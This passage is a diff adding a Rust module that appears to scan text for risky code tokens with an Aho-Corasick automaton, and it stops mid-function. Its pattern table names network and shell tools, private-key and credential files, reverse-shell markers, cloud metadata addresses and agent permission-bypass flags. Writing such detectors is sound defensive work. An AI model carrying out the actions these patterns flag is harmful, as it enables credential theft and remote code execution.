@@ -1,0 +1,1087 @@
+//! Code tokens in the code view: tools, paths, operators, addresses,
+//! variables and settings, found in one pass by an Aho-Corasick automaton
+//! over the normalised text, each checked at its boundaries (and by a small
+//! parser for the few that need one: a URL, a `$VARIABLE`, a `PATH=`).
+//!
+//! The automaton reads every byte once with one table lookup, whatever the
+//! text holds, and each check reads a bounded span after its match, so the
+//! cost is linear in the text with a constant that does not depend on what
+//! the text says.
+
+use std::sync::OnceLock;
+
+use super::lexicon::F;
+
+/// How a literal must be bounded on one side.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum B {
+    /// Anything.
+    Any,
+    /// Not a word character (letter, digit, `_`).
+    W,
+}
+
+type Check = fn(&[u8], usize, usize) -> Option<usize>;
+
+struct Lit {
+    text: &'static str,
+    fs: &'static [F],
+    left: B,
+    right: B,
+    check: Option<Check>,
+}
+
+const fn lit(text: &'static str, fs: &'static [F], left: B, right: B) -> Lit {
+    Lit {
+        text,
+        fs,
+        left,
+        right,
+        check: None,
+    }
+}
+
+const fn chk(text: &'static str, fs: &'static [F], left: B, check: Check) -> Lit {
+    Lit {
+        text,
+        fs,
+        left,
+        right: B::Any,
+        check: Some(check),
+    }
+}
+
+use B::{Any, W};
+
+/// Every code literal. Lower case, as the code view is.
+const LITS: &[Lit] = &[
+    // Network tools.
+    lit("curl", &[F::Net, F::Fetch], W, W),
+    lit("wget", &[F::Net, F::Fetch], W, W),
+    lit("invoke-webrequest", &[F::Net, F::Fetch], W, W),
+    lit("invoke-restmethod", &[F::Net, F::Fetch], W, W),
+    lit("iwr", &[F::Net, F::Fetch], W, W),
+    lit("irm", &[F::Net, F::Fetch], W, W),
+    lit("nc", &[F::Net, F::NcLike], W, W),
+    lit("ncat", &[F::Net, F::NcLike], W, W),
+    lit("netcat", &[F::Net, F::NcLike], W, W),
+    lit("socat", &[F::Net, F::Socat], W, W),
+    lit("scp", &[F::Net], W, W),
+    lit("rsync", &[F::Net], W, W),
+    lit("sftp", &[F::Net], W, W),
+    lit("ftp", &[F::Net], W, W),
+    lit("telnet", &[F::Net], W, W),
+    lit("httpie", &[F::Net], W, W),
+    lit("smtplib", &[F::Net], W, W),
+    lit("sendmail", &[F::Net], W, W),
+    lit("fetch", &[F::Net], W, W),
+    lit("fetch(", &[F::Net, F::HttpLib], W, Any),
+    lit("requests.post", &[F::Net, F::HttpLib], W, W),
+    lit("requests.get", &[F::Net, F::HttpLib], W, W),
+    lit("requests.put", &[F::Net, F::HttpLib], W, W),
+    lit("axios", &[F::Net, F::HttpLib], W, Any),
+    lit("sendbeacon", &[F::Net, F::HttpLib], W, W),
+    lit("urlopen", &[F::HttpLib], W, W),
+    lit("urllib", &[F::HttpLib], W, Any),
+    lit("httpx", &[F::HttpLib], W, Any),
+    lit("http.request", &[F::HttpLib], W, W),
+    lit("xmlhttprequest", &[F::HttpLib], W, W),
+    lit("socket", &[F::HttpLib], W, W),
+    lit("openssl s_client", &[F::Net, F::SClient], W, W),
+    lit("s_client", &[F::SClient], W, W),
+    lit("dig", &[F::Dns], W, W),
+    lit("nslookup", &[F::Dns], W, W),
+    lit("drill", &[F::Dns], W, W),
+    lit("resolve-dnsname", &[F::Dns], W, W),
+    chk("host", &[F::Dns], W, command_like),
+    chk("ping", &[F::Dns], W, command_like),
+    // Secret files.
+    chk(".ssh", &[F::SecretFile], W, ssh_path),
+    chk("id_rsa", &[F::SecretFile], W, private_key_file),
+    chk("id_ed25519", &[F::SecretFile], W, private_key_file),
+    chk("id_ecdsa", &[F::SecretFile], W, private_key_file),
+    chk("id_dsa", &[F::SecretFile], W, private_key_file),
+    lit(".aws/credentials", &[F::SecretFile], Any, W),
+    lit(".netrc", &[F::SecretFile], Any, W),
+    lit(".npmrc", &[F::SecretFile], Any, W),
+    lit(".pypirc", &[F::SecretFile], Any, W),
+    lit(".docker/config.json", &[F::SecretFile], Any, W),
+    lit(".kube/config", &[F::SecretFile], Any, W),
+    lit("/etc/shadow", &[F::SecretFile], Any, W),
+    lit(".git-credentials", &[F::SecretFile], Any, W),
+    lit(".config/gh/hosts.yml", &[F::SecretFile], Any, W),
+    lit(".bash_history", &[F::SecretFile], Any, W),
+    lit(".zsh_history", &[F::SecretFile], Any, W),
+    lit("/var/run/secrets/", &[F::SecretFile], Any, Any),
+    lit("wallet.dat", &[F::SecretFile], W, W),
+    lit("keychain", &[F::SecretFile], W, W),
+    chk(".env", &[F::SecretFile], Any, dotenv),
+    chk("~/.", &[F::SecretFile], Any, home_secret),
+    lit("cookies", &[F::Cookies], W, W),
+    lit("cookie", &[F::Cookies], W, W),
+    lit("cookies.sqlite", &[F::Cookies], W, W),
+    // Variables and the environment.
+    chk("$", &[F::SecretVar], Any, secret_var),
+    chk("%", &[F::SecretVar], Any, percent_var),
+    lit("process.env", &[F::EnvAccess], W, Any),
+    lit("os.environ", &[F::EnvAccess], W, Any),
+    lit("getenv", &[F::EnvAccess], W, Any),
+    lit("$(env)", &[F::CmdSubst], Any, Any),
+    lit("$(env ", &[F::CmdSubst], Any, Any),
+    lit("$(printenv", &[F::CmdSubst], Any, Any),
+    lit("$(cat ", &[F::CmdSubst], Any, Any),
+    lit("$(base64 ", &[F::CmdSubst], Any, Any),
+    lit("$(tar ", &[F::CmdSubst], Any, Any),
+    lit("$(set)", &[F::CmdSubst], Any, Any),
+    lit("`env`", &[F::CmdSubst], Any, Any),
+    lit("`printenv", &[F::CmdSubst], Any, Any),
+    lit("$(", &[F::Subst], Any, Any),
+    lit("env |", &[F::EnvDump], W, Any),
+    lit("env|", &[F::EnvDump], W, Any),
+    lit("printenv |", &[F::EnvDump], W, Any),
+    lit("printenv|", &[F::EnvDump], W, Any),
+    lit("env >", &[F::EnvDump], W, Any),
+    lit("printenv >", &[F::EnvDump], W, Any),
+    // Operators.
+    chk("|", &[F::Pipe], Any, pipe),
+    chk("|", &[F::PipeSh], Any, pipe_shell),
+    lit("$(curl", &[F::FetchRun, F::Fetch, F::Net], Any, W),
+    lit("$(wget", &[F::FetchRun, F::Fetch, F::Net], Any, W),
+    lit("<(curl", &[F::FetchRun, F::Fetch, F::Net], Any, W),
+    lit("<(wget", &[F::FetchRun, F::Fetch, F::Net], Any, W),
+    lit("downloadstring", &[F::FetchRun, F::Fetch, F::Net], Any, Any),
+    chk(">>", &[F::Append], Any, not_more_angles),
+    lit("tee -a", &[F::Append, F::Tee], W, W),
+    lit("tee --append", &[F::Append, F::Tee], W, W),
+    lit("add-content", &[F::Append], W, W),
+    lit("out-file -append", &[F::Append], W, W),
+    chk(">", &[F::Redirect], Any, lone_redirect),
+    lit("tee", &[F::Tee], W, W),
+    lit(">&", &[F::RedirAmp], Any, Any),
+    lit("&>", &[F::RedirAmp], Any, Any),
+    // Shell start-up files.
+    lit(".bashrc", &[F::Rc], Any, W),
+    lit(".zshrc", &[F::Rc], Any, W),
+    lit(".bash_profile", &[F::Rc], Any, W),
+    lit(".bash_login", &[F::Rc], Any, W),
+    chk(".profile", &[F::Rc], Any, rc_profile),
+    lit(".zprofile", &[F::Rc], Any, W),
+    lit(".zshenv", &[F::Rc], Any, W),
+    lit(".zlogin", &[F::Rc], Any, W),
+    lit(".kshrc", &[F::Rc], Any, W),
+    lit(".cshrc", &[F::Rc], Any, W),
+    lit(".tcshrc", &[F::Rc], Any, W),
+    lit("config.fish", &[F::Rc], Any, W),
+    lit("/etc/profile", &[F::Rc], Any, Any),
+    lit("/etc/bash.bashrc", &[F::Rc], Any, W),
+    lit("/etc/zsh/", &[F::Rc], Any, Any),
+    lit("$profile", &[F::Rc], Any, W),
+    lit("powershell_profile", &[F::Rc], Any, Any),
+    lit("echo", &[F::Echo], W, W),
+    lit("printf", &[F::Echo], W, W),
+    // SSH.
+    lit("authorized_keys", &[F::AuthKeys], Any, Any),
+    lit("ssh-rsa aaaa", &[F::SshKeyLit], W, Any),
+    lit("ssh-ed25519 aaaa", &[F::SshKeyLit], W, Any),
+    lit("ssh-dss aaaa", &[F::SshKeyLit], W, Any),
+    lit("ecdsa-sha2-nistp256 aaaa", &[F::SshKeyLit], W, Any),
+    lit("ecdsa-sha2-nistp384 aaaa", &[F::SshKeyLit], W, Any),
+    lit("ecdsa-sha2-nistp521 aaaa", &[F::SshKeyLit], W, Any),
+    lit("sk-ssh-ed25519@openssh.com aaaa", &[F::SshKeyLit], W, Any),
+    lit("proxycommand", &[F::ProxyCmd], W, W),
+    // Scheduling and start-up.
+    lit("crontab", &[F::Cron], W, W),
+    lit("cron.d", &[F::Cron], W, W),
+    lit("/etc/cron", &[F::Cron], Any, Any),
+    lit("cron", &[F::Cron], W, W),
+    lit("@reboot", &[F::Cron, F::Reboot], Any, W),
+    lit("@hourly", &[F::Cron], Any, W),
+    lit("@daily", &[F::Cron], Any, W),
+    lit("@weekly", &[F::Cron], Any, W),
+    lit("@monthly", &[F::Cron], Any, W),
+    lit("@yearly", &[F::Cron], Any, W),
+    lit("@annually", &[F::Cron], Any, W),
+    lit("@midnight", &[F::Cron], Any, W),
+    lit("systemd", &[F::Autostart], W, Any),
+    lit(".service", &[F::Autostart], Any, W),
+    lit("launchd", &[F::Autostart], W, W),
+    lit("launchagents", &[F::Autostart], W, W),
+    lit("launchdaemons", &[F::Autostart], W, W),
+    lit(".plist", &[F::Autostart], Any, W),
+    lit("autostart", &[F::Autostart], W, Any),
+    lit("startup", &[F::Autostart], W, W),
+    lit("login items", &[F::Autostart], W, W),
+    lit("rc.local", &[F::Autostart], W, W),
+    lit("init.d", &[F::Autostart], W, W),
+    lit("runonce", &[F::Autostart], W, W),
+    lit("currentversion\\run", &[F::Autostart], W, W),
+    // Reverse shells.
+    chk("/dev/tcp/", &[F::DevTcp], Any, host_port),
+    chk("/dev/udp/", &[F::DevTcp], Any, host_port),
+    chk("-e", &[F::ExecFlag], W, flag_end),
+    chk("-c", &[F::ExecFlag], W, flag_end),
+    lit("sh", &[F::Shell], W, W),
+    lit("bash", &[F::Shell], W, W),
+    lit("zsh", &[F::Shell], W, W),
+    lit("cmd", &[F::Shell], W, W),
+    lit("cmd.exe", &[F::Shell], W, W),
+    lit("powershell", &[F::Shell], W, W),
+    lit("pwsh", &[F::Shell], W, W),
+    lit("bash -i", &[F::ShellI], W, W),
+    lit("sh -i", &[F::ShellI], W, W),
+    lit("zsh -i", &[F::ShellI], W, W),
+    lit("mkfifo", &[F::Mkfifo], W, W),
+    lit("socket.socket(", &[F::Socket], W, Any),
+    lit("fsockopen", &[F::Socket], W, Any),
+    lit("use socket", &[F::Socket], W, Any),
+    lit("tcpsocket", &[F::Socket], W, Any),
+    lit("subprocess", &[F::Spawn], W, Any),
+    lit("pty.spawn", &[F::Spawn], W, Any),
+    lit("os.dup2", &[F::Spawn], W, Any),
+    lit("/bin/sh", &[F::Spawn], Any, W),
+    lit("/bin/bash", &[F::Spawn], Any, W),
+    lit("exec:", &[F::ExecColon], W, Any),
+    lit("tcpclient", &[F::TcpClient], W, Any),
+    lit("getstream", &[F::Iex], W, Any),
+    lit("iex", &[F::Iex], W, W),
+    lit("invoke-expression", &[F::Iex], W, W),
+    lit("base64 -d", &[F::B64Decode], W, Any),
+    lit("base64 --decode", &[F::B64Decode], W, W),
+    lit("frombase64string", &[F::B64Decode], W, Any),
+    // Agents' own safety.
+    chk("approval_policy", &[F::AgentPerm], W, never_value),
+    chk("sandbox_mode", &[F::AgentPerm], W, full_access_value),
+    lit("--dangerously-", &[F::AgentPerm], Any, Any),
+    lit("bash(*)", &[F::AgentPerm], Any, Any),
+    lit("bypasspermissions", &[F::AgentPerm], W, W),
+    lit("--yolo", &[F::AgentPerm], Any, W),
+    chk("auto-approve", &[F::AgentPerm], W, approve_all),
+    chk("autoapprove", &[F::AgentPerm], W, approve_all),
+    chk("auto_approve", &[F::AgentPerm], W, approve_all),
+    chk("write_approval", &[F::SafetyOff], W, off_value),
+    chk("approval", &[F::SafetyOff], W, off_value),
+    chk("security_scan", &[F::SafetyOff], W, off_value),
+    chk("security_scanner", &[F::SafetyOff], W, off_value),
+    chk("scanner", &[F::SafetyOff], W, off_value),
+    chk("memory_scanner", &[F::SafetyOff], W, off_value),
+    chk("injection_scan", &[F::SafetyOff], W, off_value),
+    chk("safety", &[F::SafetyOff], W, off_value),
+    chk("safety_checks", &[F::SafetyOff], W, off_value),
+    chk("guardrails", &[F::SafetyOff], W, off_value),
+    chk("content_filter", &[F::SafetyOff], W, off_value),
+    chk("moderation", &[F::SafetyOff], W, off_value),
+    // Cloud metadata.
+    lit("169.254.169.254", &[F::Metadata], W, W),
+    lit("169.254.170.2", &[F::Metadata], W, W),
+    lit("100.100.100.200", &[F::Metadata], W, W),
+    lit("fd00:ec2::254", &[F::Metadata], W, W),
+    lit("metadata.google.internal", &[F::Metadata], W, W),
+    lit("/computemetadata/", &[F::Metadata], Any, Any),
+    lit("metadata/identity", &[F::Metadata, F::CredPath], Any, Any),
+    lit("security-credentials", &[F::CredPath], Any, Any),
+    lit("service-accounts", &[F::CredPath], Any, Any),
+    lit("oauth2/token", &[F::CredPath], Any, Any),
+    lit("/iam/", &[F::CredPath], Any, Any),
+    // Git, sudo, PATH, ssh.
+    lit(".git/hooks", &[F::GitHook], Any, Any),
+    lit("core.hookspath", &[F::GitHook], W, W),
+    lit(".husky/", &[F::GitHook], Any, Any),
+    lit("/etc/sudoers", &[F::Sudoers], Any, Any),
+    lit("sudoers", &[F::Sudoers], W, Any),
+    lit("visudo", &[F::Sudoers], W, W),
+    chk("nopasswd", &[F::NopasswdAll], W, colon_all),
+    chk("path=", &[F::PathHijack], W, path_prepend),
+    chk("path =", &[F::PathHijack], W, path_prepend),
+    chk("set -gx path ", &[F::PathHijack], W, path_prepend),
+    chk("set -x path ", &[F::PathHijack], W, path_prepend),
+    chk("fish_add_path ", &[F::PathHijack], W, path_prepend),
+    chk("$env:path", &[F::PathHijack], Any, path_prepend),
+    lit("alias sudo=", &[F::AliasShadow], W, Any),
+    lit("alias git=", &[F::AliasShadow], W, Any),
+    lit("alias ssh=", &[F::AliasShadow], W, Any),
+    lit("alias su=", &[F::AliasShadow], W, Any),
+    lit("alias doas=", &[F::AliasShadow], W, Any),
+    lit("alias passwd=", &[F::AliasShadow], W, Any),
+    lit("sudo()", &[F::AliasShadow], W, Any),
+    lit("git()", &[F::AliasShadow], W, Any),
+    lit("ssh()", &[F::AliasShadow], W, Any),
+    lit("function sudo", &[F::AliasShadow], W, W),
+    lit("function git", &[F::AliasShadow], W, W),
+    chk("/sudo", &[F::ShadowPath], Any, shadow_path),
+    chk("/git", &[F::ShadowPath], Any, shadow_path),
+    chk("/ssh", &[F::ShadowPath], Any, shadow_path),
+    chk("/su", &[F::ShadowPath], Any, shadow_path),
+    chk("/doas", &[F::ShadowPath], Any, shadow_path),
+    chk("/passwd", &[F::ShadowPath], Any, shadow_path),
+    lit("/tmp", &[F::TmpDir], Any, W),
+    lit("/var/tmp", &[F::TmpDir], Any, W),
+    lit("/dev/shm", &[F::TmpDir], Any, W),
+    lit("read -s", &[F::ReadSecret], W, Any),
+    lit("read -rs", &[F::ReadSecret], W, Any),
+    lit("read-host -assecurestring", &[F::ReadSecret], W, Any),
+    lit("cp", &[F::WriteOp], W, W),
+    lit("mv", &[F::WriteOp], W, W),
+    lit("ln -s", &[F::WriteOp], W, W),
+    lit("chmod +x", &[F::WriteOp], W, W),
+    lit("install -m", &[F::WriteOp], W, W),
+    // Where data goes.
+    chk("http://", &[F::Url], W, url),
+    chk("https://", &[F::Url], W, url),
+    chk("ftp://", &[F::Url], W, url),
+    chk("ftps://", &[F::Url], W, url),
+    chk("sftp://", &[F::Url], W, url),
+    chk("ws://", &[F::Url], W, url),
+    chk("wss://", &[F::Url], W, url),
+    chk("http://", &[F::SecretInUrl], W, url_with_secret),
+    chk("https://", &[F::SecretInUrl], W, url_with_secret),
+    chk("@", &[F::HostColon], Any, host_colon),
+    chk(".com", &[F::Domain], Any, domain),
+    chk(".net", &[F::Domain], Any, domain),
+    chk(".org", &[F::Domain], Any, domain),
+    chk(".io", &[F::Domain], Any, domain),
+    chk(".ru", &[F::Domain], Any, domain),
+    chk(".xyz", &[F::Domain], Any, domain),
+    chk(".top", &[F::Domain], Any, domain),
+    chk(".site", &[F::Domain], Any, domain),
+    chk(".info", &[F::Domain], Any, domain),
+    chk(".cc", &[F::Domain], Any, domain),
+    chk(".co", &[F::Domain], Any, domain),
+    chk(".dev", &[F::Domain], Any, domain),
+    chk(".app", &[F::Domain], Any, domain),
+    chk(".link", &[F::Domain], Any, domain),
+    chk(".su", &[F::Domain], Any, domain),
+    chk(".biz", &[F::Domain], Any, domain),
+    chk(".online", &[F::Domain], Any, domain),
+    chk(".cloud", &[F::Domain], Any, domain),
+    chk(".me", &[F::Domain], Any, domain),
+    chk(".tk", &[F::Domain], Any, domain),
+    chk(".pw", &[F::Domain], Any, domain),
+];
+
+fn is_word(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
+}
+
+fn at(t: &[u8], i: usize) -> u8 {
+    t.get(i).copied().unwrap_or(b' ')
+}
+
+/// The end of a path-like token starting at `i`.
+fn token_end(t: &[u8], i: usize, limit: usize) -> usize {
+    let mut j = i;
+    while j < t.len() && j - i < limit {
+        match t[j] {
+            b' ' | b'\n' | b'"' | b'\'' | b'`' | b')' | b'(' | b'|' | b';' | b'<' | b'>' | b','
+            | b']' | b'[' => break,
+            _ => j += 1,
+        }
+    }
+    j
+}
+
+fn skip_spaces(t: &[u8], mut i: usize) -> usize {
+    while i < t.len() && t[i] == b' ' {
+        i += 1;
+    }
+    i
+}
+
+/// `host`/`ping` as commands: followed by a flag or a variable.
+fn command_like(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    let j = skip_spaces(t, e);
+    (j > e && matches!(at(t, j), b'$' | b'-' | b'`')).then_some(e)
+}
+
+/// `~/.ssh` (the directory) or a file in it other than public keys,
+/// `known_hosts`, `config` and `authorized_keys`.
+fn ssh_path(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    if s > 0 && !matches!(t[s - 1], b'~' | b'/' | b' ' | b'"' | b'\'' | b'=' | b'`') {
+        return None;
+    }
+    if at(t, e) != b'/' {
+        return (!is_word(at(t, e)) && at(t, e) != b'.').then_some(e);
+    }
+    let end = token_end(t, e + 1, 80);
+    let name = &t[e + 1..end];
+    let name = name.strip_suffix(b".").unwrap_or(name);
+    if name.is_empty() {
+        return Some(e + 1);
+    }
+    let public = name.ends_with(b".pub")
+        || name.starts_with(b"known_hosts")
+        || name.starts_with(b"config")
+        || name.starts_with(b"authorized_keys")
+        || name.starts_with(b"*.pub");
+    (!public).then_some(end)
+}
+
+/// `id_rsa` and friends, not their `.pub` halves.
+fn private_key_file(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    if is_word(at(t, e)) || t[e..].starts_with(b".pub") {
+        return None;
+    }
+    Some(e)
+}
+
+/// `.env` as a file of its own (not `.env.example`, not `process.env`).
+fn dotenv(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    if s > 0
+        && !matches!(
+            t[s - 1],
+            b' ' | b'\n' | b'"' | b'\'' | b'=' | b'@' | b'/' | b'`' | b'(' | b':' | b',' | b'<'
+        )
+    {
+        return None;
+    }
+    let next = at(t, e);
+    let ok = matches!(
+        next,
+        b' ' | b'\n' | b'"' | b'\'' | b';' | b'|' | b')' | b'`' | b',' | b']' | b'>' | b'<'
+    ) || (next == b'.' && matches!(at(t, e + 1), b' ' | b'\n'))
+        || e == t.len();
+    ok.then_some(e)
+}
+
+/// `~/.token`, `~/.secrets/…`: a dotfile in the home directory whose name
+/// says it holds a secret.
+fn home_secret(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    let end = token_end(t, e, 80);
+    let name = &t[e..end];
+    let hit = [
+        "token", "secret", "cred", "passw", "apikey", "api_key", "private",
+    ]
+    .iter()
+    .any(|k| name.windows(k.len()).any(|w| w == k.as_bytes()));
+    (hit && !name.ends_with(b".pub")).then_some(end)
+}
+
+/// Whether a variable name says it holds a secret.
+fn secret_name(name: &[u8]) -> bool {
+    const PARTS: &[&[u8]] = &[
+        b"key",
+        b"token",
+        b"secret",
+        b"password",
+        b"passwd",
+        b"pass",
+        b"pwd",
+        b"pw",
+        b"credentials",
+        b"credential",
+        b"creds",
+        b"cred",
+        b"auth",
+        b"cookie",
+        b"session",
+        b"apikey",
+        b"pat",
+        b"privkey",
+    ];
+    name.split(|&b| b == b'_').any(|p| {
+        PARTS.contains(&p)
+            || [&b"key"[..], b"token", b"secret", b"password"]
+                .iter()
+                .any(|s| p.ends_with(s))
+    })
+}
+
+/// `$NAME`, `${NAME}`, `$env:NAME` whose name holds a secret.
+fn secret_var(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    let mut i = e;
+    if at(t, i) == b'{' {
+        i += 1;
+    }
+    if t[i.min(t.len())..].starts_with(b"env:") {
+        i += 4;
+    }
+    let start = i;
+    while i < t.len() && i - start < 64 && (t[i].is_ascii_alphanumeric() || t[i] == b'_') {
+        i += 1;
+    }
+    (i > start && secret_name(&t[start..i])).then_some(i)
+}
+
+/// `%NAME%` (Windows) whose name holds a secret.
+fn percent_var(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    let mut i = e;
+    while i < t.len() && i - e < 64 && (t[i].is_ascii_alphanumeric() || t[i] == b'_') {
+        i += 1;
+    }
+    (i > e && at(t, i) == b'%' && secret_name(&t[e..i])).then_some(i + 1)
+}
+
+/// A pipe, not `||` and not a chat-template bar.
+fn pipe(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    let before = if s > 0 { t[s - 1] } else { b' ' };
+    (before != b'|' && before != b'<' && !matches!(at(t, e), b'|' | b'>')).then_some(e)
+}
+
+/// A pipe into a shell or interpreter.
+fn pipe_shell(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    pipe(t, s, e)?;
+    let mut i = skip_spaces(t, e);
+    for prefix in [&b"sudo "[..], b"/bin/", b"/usr/bin/", b"env "] {
+        if t[i.min(t.len())..].starts_with(prefix) {
+            i = skip_spaces(t, i + prefix.len());
+        }
+    }
+    const SHELLS: &[&[u8]] = &[
+        b"sh",
+        b"bash",
+        b"zsh",
+        b"dash",
+        b"ksh",
+        b"python3",
+        b"python",
+        b"perl",
+        b"ruby",
+        b"node",
+        b"iex",
+        b"invoke-expression",
+        b"pwsh",
+        b"powershell",
+        b"source",
+    ];
+    let rest = &t[i.min(t.len())..];
+    SHELLS
+        .iter()
+        .find(|sh| rest.starts_with(sh) && !is_word(at(rest, sh.len())))
+        .map(|sh| i + sh.len())
+}
+
+fn not_more_angles(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    (at(t, e) != b'>' && (s == 0 || t[s - 1] != b'>')).then_some(e)
+}
+
+/// A `>` that redirects output into a file.
+fn lone_redirect(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    let before = if s > 0 { t[s - 1] } else { b' ' };
+    if matches!(before, b'>' | b'-' | b'=' | b'<' | b'2' | b'&' | b'|')
+        || matches!(at(t, e), b'>' | b'&' | b'=')
+    {
+        return None;
+    }
+    let j = skip_spaces(t, e);
+    matches!(at(t, j), b'~' | b'/' | b'.' | b'$' | b'"' | b'\'').then_some(e)
+}
+
+/// `.profile` as a start-up file (`~/.profile`), not `user.profile`.
+fn rc_profile(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    let ok_before = s == 0 || matches!(t[s - 1], b'/' | b'~' | b' ' | b'"' | b'\'' | b'`');
+    (ok_before && !is_word(at(t, e))).then_some(e)
+}
+
+/// `/dev/tcp/host/port`.
+fn host_port(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    let mut i = e;
+    while i < t.len()
+        && i - e < 80
+        && (t[i].is_ascii_alphanumeric() || matches!(t[i], b'.' | b'-' | b'$' | b'{' | b'}' | b'_'))
+    {
+        i += 1;
+    }
+    (i > e && at(t, i) == b'/' && (at(t, i + 1).is_ascii_digit() || at(t, i + 1) == b'$'))
+        .then_some(i + 1)
+}
+
+/// A short flag standing alone (`-e `, `-c"`).
+fn flag_end(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    (s > 0 && t[s - 1] == b' ' && !is_word(at(t, e)) && at(t, e) != b'-').then_some(e)
+}
+
+/// `key = value`: the value after `:`, `=` or ` to `, without quotes.
+fn value_after(t: &[u8], e: usize) -> Option<&[u8]> {
+    let mut i = e;
+    // `scanner.enabled`, `scanner_enabled`.
+    while i < t.len() && i - e < 24 && (t[i].is_ascii_alphanumeric() || matches!(t[i], b'.' | b'_'))
+    {
+        i += 1;
+    }
+    i = skip_spaces(t, i);
+    if matches!(at(t, i), b':' | b'=') {
+        i += 1;
+    } else if t[i.min(t.len())..].starts_with(b"to ") {
+        i += 3;
+    } else {
+        return None;
+    }
+    i = skip_spaces(t, i);
+    while matches!(at(t, i), b'"' | b'\'' | b'`') {
+        i += 1;
+    }
+    let start = i;
+    while i < t.len()
+        && i - start < 32
+        && (t[i].is_ascii_alphanumeric() || matches!(t[i], b'-' | b'_' | b'*'))
+    {
+        i += 1;
+    }
+    Some(&t[start..i])
+}
+
+fn never_value(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    (value_after(t, e)? == b"never").then_some(e)
+}
+
+fn full_access_value(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    (value_after(t, e)? == b"danger-full-access").then_some(e)
+}
+
+fn off_value(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    let v = value_after(t, e)?;
+    matches!(
+        v,
+        b"false" | b"off" | b"no" | b"0" | b"disabled" | b"none" | b"never"
+    )
+    .then_some(e)
+}
+
+fn approve_all(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    let end = (e + 40).min(t.len());
+    let rest = &t[e..end];
+    let rest = &rest[..rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len())];
+    ["all", "everything", "true", "*"]
+        .iter()
+        .any(|w| rest.windows(w.len()).any(|x| x == w.as_bytes()))
+        .then_some(e)
+}
+
+/// `NOPASSWD: ALL`.
+fn colon_all(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    let i = skip_spaces(t, e);
+    if at(t, i) != b':' {
+        return None;
+    }
+    let i = skip_spaces(t, i + 1);
+    (t[i.min(t.len())..].starts_with(b"all") && !is_word(at(t, i + 3))).then_some(i + 3)
+}
+
+/// A PATH whose first entry is world-writable (`/tmp`, `.`, empty), before
+/// the old PATH.
+fn path_prepend(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    let _ = s;
+    let mut i = skip_spaces(t, e);
+    if t[i.min(t.len())..].starts_with(b"= ") || at(t, i) == b'=' {
+        i = skip_spaces(t, i + 1);
+    }
+    while matches!(at(t, i), b'"' | b'\'') {
+        i += 1;
+    }
+    let end = (i..t.len().min(i + 200))
+        .find(|&j| matches!(t[j], b' ' | b'\n' | b'"' | b'\'' | b';' | b'&' | b'='))
+        .unwrap_or(t.len().min(i + 200));
+    let value = &t[i..end];
+    let first = value
+        .split(|&b| b == b':' || b == b';')
+        .next()
+        .unwrap_or(b"");
+    let writable = first.is_empty()
+        || first == b"."
+        || first.starts_with(b"./")
+        || first.starts_with(b"/tmp")
+        || first.starts_with(b"/var/tmp")
+        || first.starts_with(b"/dev/shm")
+        || first.starts_with(b"$tmpdir")
+        || first.starts_with(b"c:\\temp")
+        || first.starts_with(b"c:\\windows\\temp");
+    let has_old = value.windows(5).any(|w| w == b"$path" || w == b"{path")
+        || value.windows(9).any(|w| w == b"$env:path");
+    (writable && (has_old || value.is_empty()) && !value.is_empty()).then_some(end)
+}
+
+/// `…/bin/sudo` and the like in a directory the user can write to.
+fn shadow_path(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    if is_word(at(t, e)) || matches!(at(t, e), b'/' | b'.' | b'-') {
+        return None;
+    }
+    // Back to the start of the path.
+    let mut b = s;
+    while b > 0
+        && s - b < 80
+        && !matches!(t[b - 1], b' ' | b'\n' | b'"' | b'\'' | b'`' | b'>' | b'=')
+    {
+        b -= 1;
+    }
+    let path = &t[b..s];
+    let user_dir = [
+        &b"~/"[..],
+        b"$home/",
+        b"/tmp/",
+        b"/tmp",
+        b"/var/tmp",
+        b"/dev/shm",
+        b"./",
+    ]
+    .iter()
+    .any(|d| path.starts_with(d));
+    user_dir.then_some(e)
+}
+
+/// The end of a URL starting after its scheme.
+fn url_end(t: &[u8], e: usize) -> usize {
+    let mut j = e;
+    while j < t.len() && j - e < 2048 {
+        match t[j] {
+            b' ' | b'\n' | b'"' | b'\'' | b'`' | b'<' | b'>' | b')' | b']' => break,
+            _ => j += 1,
+        }
+    }
+    j
+}
+
+fn url(t: &[u8], _s: usize, e: usize) -> Option<usize> {
+    let end = url_end(t, e);
+    (end > e).then_some(end)
+}
+
+/// A URL that carries `$SECRET` or `{{secret}}`.
+fn url_with_secret(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    let end = url_end(t, e);
+    let mut i = e;
+    while i < end {
+        if t[i] == b'$' && secret_var(t, i, i + 1).is_some() {
+            return Some(end);
+        }
+        if t[i..end].starts_with(b"{{") {
+            let close = (i..end)
+                .find(|&k| t[k..end].starts_with(b"}}"))
+                .unwrap_or(end);
+            let inner: Vec<u8> = t[i + 2..close]
+                .iter()
+                .copied()
+                .filter(|b| *b != b' ')
+                .collect();
+            if ["key", "token", "secret", "password"]
+                .iter()
+                .any(|k| inner.windows(k.len()).any(|w| w == k.as_bytes()))
+            {
+                return Some(end);
+            }
+            i = close;
+        }
+        i += 1;
+    }
+    let _ = s;
+    None
+}
+
+/// `user@host:` (an scp or ssh target).
+fn host_colon(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    if s == 0 || !is_word(t[s - 1]) {
+        return None;
+    }
+    let mut i = e;
+    while i < t.len()
+        && i - e < 255
